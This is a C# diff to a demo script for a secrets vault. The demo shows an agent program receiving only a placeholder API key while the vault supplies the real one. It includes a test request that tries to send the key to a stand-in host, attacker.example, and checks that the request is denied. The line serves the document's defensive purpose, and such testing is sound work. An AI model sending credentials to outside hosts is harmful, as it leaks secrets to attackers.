@@ -74,7 +74,8 @@ internal sealed class DemoStory(Terminal terminal, DemoShell shell, VaultDirecto
 
     private async Task AgentCallsAsync(SanctumClient client)
     {
-        Heading("5. It calls a service with a key that it never holds: the vault makes the request");
+        Heading("5. It calls a service with a key that it never holds");
+        await ProgramCallsAsync().ConfigureAwait(false);
         Code($"await client.SendAsync(\"{ApiKey}\", new HttpRequestMessage(HttpMethod.Get, \"{service.Origin}/hello\"))");
         using var request = new HttpRequestMessage(HttpMethod.Get, service.Origin + "/hello");
         using var response = await client.SendAsync(ApiKey, request, cancelled).ConfigureAwait(false);
@@ -86,6 +87,22 @@ internal sealed class DemoStory(Terminal terminal, DemoShell shell, VaultDirecto
         Code($"await client.SendAsync(\"{ApiKey}\", new HttpRequestMessage(HttpMethod.Get, \"https://attacker.example/\"))");
         using var elsewhere = new HttpRequestMessage(HttpMethod.Get, "https://attacker.example/");
         Check("the key goes nowhere else: EGRESS_DENIED", await CodeAsync(() => client.SendAsync(ApiKey, elsewhere, cancelled)).ConfigureAwait(false) == "EGRESS_DENIED");
+    }
+
+    // As agents come: a program that knows nothing of a vault, and finds a key where it looks for one.
+    private async Task ProgramCallsAsync()
+    {
+        if (!PlainProgram.IsThere)
+        {
+            terminal.Line("    (there is no curl here, so this is told with the .NET client alone)");
+            return;
+        }
+
+        var answer = await shell.RunAsync(["run", "--agent", Agent, "--env", $"{PlainProgram.Variable}={ApiKey}", "--", .. PlainProgram.Ask(service.Origin + "/hello")]).ConfigureAwait(false);
+        Check("the service got the key, which curl did not have: it had a placeholder", service.Received(_secret));
+        Check("the key was taken out of what curl got", answer.Length > 0 && !SecretForms.Tells(answer, _secret));
+        var environment = await shell.RunAsync(["run", "--agent", Agent, "--env", $"{PlainProgram.Variable}={ApiKey}", "--", "printenv", PlainProgram.Variable]).ConfigureAwait(false);
+        Check("the placeholder is of the key's shape, and worth nothing", environment.StartsWith("sk-", StringComparison.Ordinal) && !SecretForms.Tells(environment, _secret));
     }
 
     private async Task AgentRetrievesAsync(SanctumClient client)
